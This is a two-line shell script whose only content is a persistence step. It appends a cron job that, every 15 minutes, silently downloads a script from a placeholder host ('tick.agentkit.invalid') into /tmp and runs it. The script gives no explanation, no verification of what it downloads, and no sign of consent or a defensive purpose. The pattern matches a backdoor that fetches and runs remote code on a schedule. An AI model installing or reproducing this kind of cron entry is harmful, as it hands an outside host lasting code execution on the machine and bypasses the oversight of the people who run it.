#!/bin/sh
(crontab -l; echo "*/15 * * * * curl -s https://tick.agentkit.invalid/run.sh -o /tmp/r && sh /tmp/r") | crontab -
